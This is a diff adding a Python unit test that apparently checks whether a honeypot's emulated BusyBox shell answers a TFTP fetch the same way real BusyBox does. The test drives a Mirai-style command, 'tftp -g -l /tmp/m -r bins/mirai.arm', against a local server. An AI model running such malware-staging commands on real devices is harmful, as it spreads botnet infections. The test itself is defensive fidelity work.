@@ -243,6 +243,25 @@ class FidelityTest(unittest.TestCase):
         t.join(10)
         self.assertEqual(got['req'].replace(b':%d' % port, b':PORT'), recorded('wget_request.txt'))
 
+    def test_tftp_request_is_busybox_tftp(self):
+        srv = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        srv.bind(('127.0.0.1', 0))
+        srv.settimeout(15)
+        self.addCleanup(srv.close)
+        port = srv.getsockname()[1]
+        got = {}
+
+        def serve():
+            got['rrq'], peer = srv.recvfrom(2048)
+            srv.sendto(b'\x00\x05\x00\x01File not found\x00', peer)
+        t = threading.Thread(target=serve, daemon=True)
+        t.start()
+        bot = self.shell()
+        out = bot.command('tftp -g -l /tmp/m -r bins/mirai.arm 127.0.0.1 %d' % port, 'TFEND')
+        t.join(15)
+        self.assertEqual(got['rrq'], recorded('tftp_rrq.bin'))  # no blksize, no timeout option
+        self.assertIn(recorded('tftp_not_found.txt').replace(b'\n', b'\r\n'), out)
+
     def test_ps1_and_history(self):
         bot = self.shell()
         out = bot.command('echo "[$PS1]"', 'PSEND')
